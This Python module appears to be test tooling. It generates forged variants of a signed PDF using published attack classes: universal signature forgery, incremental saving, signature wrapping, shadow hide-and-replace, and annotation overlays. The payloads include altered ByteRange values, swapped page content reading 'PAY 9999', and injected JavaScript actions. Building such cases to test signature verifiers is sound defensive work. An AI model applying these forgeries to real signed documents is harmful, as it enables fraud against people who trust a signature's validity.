"""Make forged signed PDFs as attackers do (pdf-insecurity.org): bytes and objects, several variants of each attack.

Objects are numbers and bytes; `Signed` knows those of the file that was signed.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf

EVIL = b"BT /F1 20 Tf 100 500 Td (PAY 9999) Tj ET 0 0 300 300 re f"
FORM = b"<</Type/XObject/Subtype/Form/BBox[0 0 300 300]/Length %d>>stream\n%s\nendstream" % (len(EVIL), EVIL)
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


@dataclass(frozen=True)
class Signed:
    """A signed file, and the numbers of catalog, first page, its content, form, metadata, information, empty field."""

    content: bytes
    root: int
    page: int
    stream: int
    metadata: int
    info: int
    field: int
    font: int
    size: int

    @classmethod
    def read(cls, content: bytes) -> Signed:
        with pikepdf.open(io.BytesIO(content)) as pdf:
            page = pdf.pages[0].obj
            fields = list(pdf.Root.AcroForm.Fields)
            empty = next((one for one in fields if "/V" not in one), fields[-1])
            fonts = page.Resources.Font
            return cls(
                content,
                pdf.Root.objgen[0],
                page.objgen[0],
                page.Contents.objgen[0],
                pdf.Root.Metadata.objgen[0],
                pdf.trailer.Info.objgen[0],
                empty.objgen[0],
                next(iter(fonts.values())).objgen[0],
                int(pdf.trailer.Size),
            )

    def body(self, number: int) -> bytes:
        """Return an object's own words, to be changed."""
        with pikepdf.open(io.BytesIO(self.content)) as pdf:
            return pdf.get_object(number, 0).unparse(resolved=True)

    def with_entry(self, number: int, entry: bytes) -> bytes:
        """Return a dictionary with an entry more, or in place of the one of that name."""
        body = self.body(number).rstrip()
        name = re.match(rb"/\w+", entry)[0]  # type: ignore[index]
        with pikepdf.open(io.BytesIO(self.content)) as pdf:
            found = pdf.get_object(number, 0)
            if name.decode() in found:
                del found[name.decode()]
            body = found.unparse(resolved=True)
        return body[: body.rindex(b">>")] + b" " + entry + b" >>"


def update(signed: Signed, objects: dict[int, bytes], *, root: int = 0, prev: int = -1, more: bytes = b"") -> bytes:
    """Return a file with an incremental update that is sound in itself."""
    content = signed.content
    last = int(re.findall(rb"startxref\s+(\d+)", content)[-1]) if prev < 0 else prev
    made, places = bytearray(content), {}
    for number, body in sorted(objects.items()):
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(made)
    made += b"xref\n"
    for number, place in places.items():
        made += b"%d 1\n%010d 00000 n \n" % (number, place)
    if not places:
        made += b"0 1\n0000000000 65535 f \n"
    size = max([signed.size, *(number + 1 for number in objects)])
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d%s>>\n"
    made += trailer % (size, root or signed.root, signed.info, last, more)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % xref)


def stream(body: bytes) -> bytes:
    return b"<</Length %d>>stream\n%s\nendstream" % (len(body), body)


Variants = Iterator[tuple[str, bytes]]


def universal(signed: Signed) -> Variants:
    """USF: the signature says nothing that can be checked, and is shown as good for want of it."""
    content = signed.content
    found = list(re.finditer(rb"/ByteRange ?\[[^\]]*\]", content))[-1]
    for name, words in {
        "none": b"",
        "null": b"/ByteRange null",
        "empty": b"/ByteRange []",
        "zeros": b"/ByteRange [0 0 0 0]",
        "negative": b"/ByteRange [0 -1 -1 -1]",
        "letters": b"/ByteRange [a b c d]",
        "short": b"/ByteRange [0 100]",
        "huge": b"/ByteRange [0 99999999 99999999 99999999]",
    }.items():
        # As long as before, so that the file's structure holds.
        words = words.ljust(len(found[0]))[: len(found[0])]
        yield f"range {name}", content[: found.start()] + words + content[found.end() :]
    value = re.search(
        rb"/Contents ?<[0-9a-fA-F]+>", content[found.start() - 100_000 if found.start() > 100_000 else 0 :]
    )
    assert value
    for name, words in {
        "none": b"",
        "null": b"/Contents null",
        "empty": b"/Contents <>",
        "zero": b"/Contents <00>",
    }.items():
        yield f"value {name}", content.replace(value[0], words.ljust(len(value[0])))


def incremental(signed: Signed) -> Variants:
    """ISA: another body is appended, as far from a sound update as readers forgive."""
    content, new = signed.content, b"%d 0 obj\n%s\nendobj\n" % (signed.stream, stream(EVIL))
    last = re.findall(rb"startxref\s+(\d+)", content)[-1]
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %s>>\n" % (signed.size, signed.root, last)
    yield "sound update", update(signed, {signed.stream: stream(EVIL)})
    yield "body alone", content + new
    yield "body and trailer", content + new + trailer
    for name, place in {
        "zero": b"0",
        "large": b"99999999",
        "old": last,
        "at the trailer": b"%d" % len(content),
    }.items():
        yield f"start {name}", content + new + trailer + b"startxref\n" + place + b"\n%%EOF\n"
    yield "nothing but the end", content + b"startxref\n" + last + b"\n%%EOF\n"
    yield "junk", content + b"% words after the end\n"
    yield "blanks", content + b"\n" * 3
    yield "zeros and a body", content + b"\0" * 5000 + new
    yield "a second copy", content + content
    yield "a broken table", update(signed, {signed.stream: stream(EVIL)}).replace(b" 00000 n \n", b" 00000 n\n ")
    whole = update(signed, {signed.stream: stream(EVIL)})
    yield "an unlisted object", whole[: len(content)] + new + whole[len(content) :]
    yield "without the one before", update(signed, {signed.stream: stream(EVIL)}, prev=0)
    yield "hidden in a comment", content + b"%" + update(signed, {signed.size: b"null"})[len(content) :]


def wrapping(signed: Signed) -> Variants:
    """SWA: what the signature leaves out holds more than its value; the rest of the file stays where it was."""
    content = signed.content
    value = list(re.finditer(rb"<[0-9a-fA-F]{2000,}>", content))[-1]
    inner = value[0][1:-1].rstrip(b"0")
    inner += b"0" * (len(inner) % 2)
    new = b"> %d 0 obj %s endobj <" % (signed.stream, stream(EVIL))
    room = len(value[0]) - 2 - len(inner) - len(new)
    yield "within the gap", content[: value.start()] + b"<" + inner + new + b"0" * room + b">" + content[value.end() :]
    found = list(re.finditer(rb"/ByteRange ?\[0 (\d+) (\d+) (\d+) *\]", content))[-1]
    first, second, length = (int(number) for number in found.groups())
    moved = content[:second] + new + content[second:]
    words = (b"/ByteRange [0 %d %d %d]" % (first, second + len(new), length)).ljust(len(found[0]))
    yield "moved apart", moved[: found.start()] + words + moved[found.end() :]


def shadow(signed: Signed) -> Variants:
    """Hide and replace: objects that were signed are changed to what was meant all along."""
    yield "hide: the content goes", update(signed, {signed.stream: stream(b"")})
    yield (
        "hide: the page shows another",
        update(
            signed,
            {signed.size: stream(EVIL), signed.page: signed.with_entry(signed.page, b"/Contents %d 0 R" % signed.size)},
        ),
    )
    yield "replace: the font", update(signed, {signed.font: b"<</Type/Font/Subtype/Type1/BaseFont/Courier>>"})
    yield "replace: the box", update(signed, {signed.page: signed.with_entry(signed.page, b"/MediaBox [0 0 300 300]")})
    yield "replace: the turn", update(signed, {signed.page: signed.with_entry(signed.page, b"/Rotate 180")})
    look = b"/AP <</N %d 0 R>>" % signed.size
    yield (
        "replace: how an empty field looks",
        update(signed, {signed.size: FORM, signed.field: signed.with_entry(signed.field, look)}),
    )
    yield (
        "replace: where a field stands",
        update(signed, {signed.field: signed.with_entry(signed.field, b"/Rect [0 0 500 500]")}),
    )
    pages = b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % signed.page
    yield (
        "replace: the pages",
        update(
            signed, {signed.size: pages, signed.root: signed.with_entry(signed.root, b"/Pages %d 0 R" % signed.size)}
        ),
    )


def around(signed: Signed) -> Variants:
    """What stands around the pages: actions, layers, metadata, version, fields."""
    for name, entry in {
        "action": b"/OpenAction " + SCRIPT,
        "more actions": b"/AA <</WC " + SCRIPT + b">>",
        "names": b"/Names <</JavaScript <</Names [(x) " + SCRIPT + b"]>>>>",
        "layers": b"/OCProperties <</OCGs [] /D <<>>>>",
        "version": b"/Version /2.0",
        "old version": b"/Version /1.3",
        "tags": b"/MarkInfo <</Marked false>>",
    }.items():
        yield name, update(signed, {signed.root: signed.with_entry(signed.root, entry)})
    with pikepdf.open(io.BytesIO(signed.content)) as pdf:
        said = pdf.Root.Metadata.read_bytes()
    told = re.sub(rb"(<dc:title.*?<rdf:li[^>]*>)[^<]*", rb"\1Other", said, flags=re.DOTALL)
    assert told != said
    head = b"<</Type/Metadata/Subtype/XML/Length %d>>stream\n" % len(told)
    yield "metadata", update(signed, {signed.metadata: head + told + b"\nendstream"})
    yield "information", update(signed, {signed.info: signed.with_entry(signed.info, b"/Title (Other)")})
    yield "another root", update(signed, {signed.size: signed.body(signed.root)}, root=signed.size)


def notes(signed: Signed) -> Variants:
    """EAA: notes and fields laid over a page, whatever a certification allows."""
    corner = b"/Rect [50 400 400 700] /P %d 0 R /F 4" % signed.page
    look = b" /AP <</N %d 0 R>>" % (signed.size + 1)
    for name, body in {
        "free text": b"/Subtype/FreeText /DA (/Helv 20 Tf) /Contents (PAY 9999)",
        "stamp": b"/Subtype/Stamp" + look,
        "redaction": b"/Subtype/Redact" + look,
        "link": b"/Subtype/Link /A " + SCRIPT,
        "text field": b"/Subtype/Widget /FT/Tx /T(x) /V(PAY 9999)" + look,
        "button": b"/Subtype/Widget /FT/Btn /T(x) /Ff 65536 /A " + SCRIPT + look,
        "empty signature field": b"/Subtype/Widget /FT/Sig /T(x)" + look,
        "empty signature field with a script": b"/Subtype/Widget /FT/Sig /T(x) /AA <</E " + SCRIPT + b">>" + look,
        "field of a known name": b"/Subtype/Widget /FT/Sig /T(Signature1)" + look,
    }.items():
        objects = {signed.size: b"<</Type/Annot " + body + b" " + corner + b">>", signed.size + 1: FORM}
        yield name, update(signed, {**objects, **_listed(signed, b"/FT" in body)})


def _listed(signed: Signed, is_field: bool) -> dict[int, bytes]:
    """Return page and catalog that have the object after the last as annotation, and as field."""
    with pikepdf.open(io.BytesIO(signed.content)) as pdf:
        page = pdf.pages[0].obj
        notes = [*(page.Annots if "/Annots" in page else [])]
        listed = b" ".join(b"%d 0 R" % one.objgen[0] for one in notes)
        fields = b" ".join(b"%d 0 R" % one.objgen[0] for one in pdf.Root.AcroForm.Fields)
    more = b"%s %d 0 R" % (listed, signed.size)
    changed = {signed.page: signed.with_entry(signed.page, b"/Annots [" + more + b"]")}
    if is_field:
        form = b"/AcroForm <</SigFlags 3 /Fields [%s %d 0 R]>>" % (fields, signed.size)
        changed[signed.root] = signed.with_entry(signed.root, form)
    return changed


ATTACKS: dict[str, Callable[[Signed], Variants]] = {
    one.__name__: one for one in (universal, incremental, wrapping, shadow, around, notes)
}
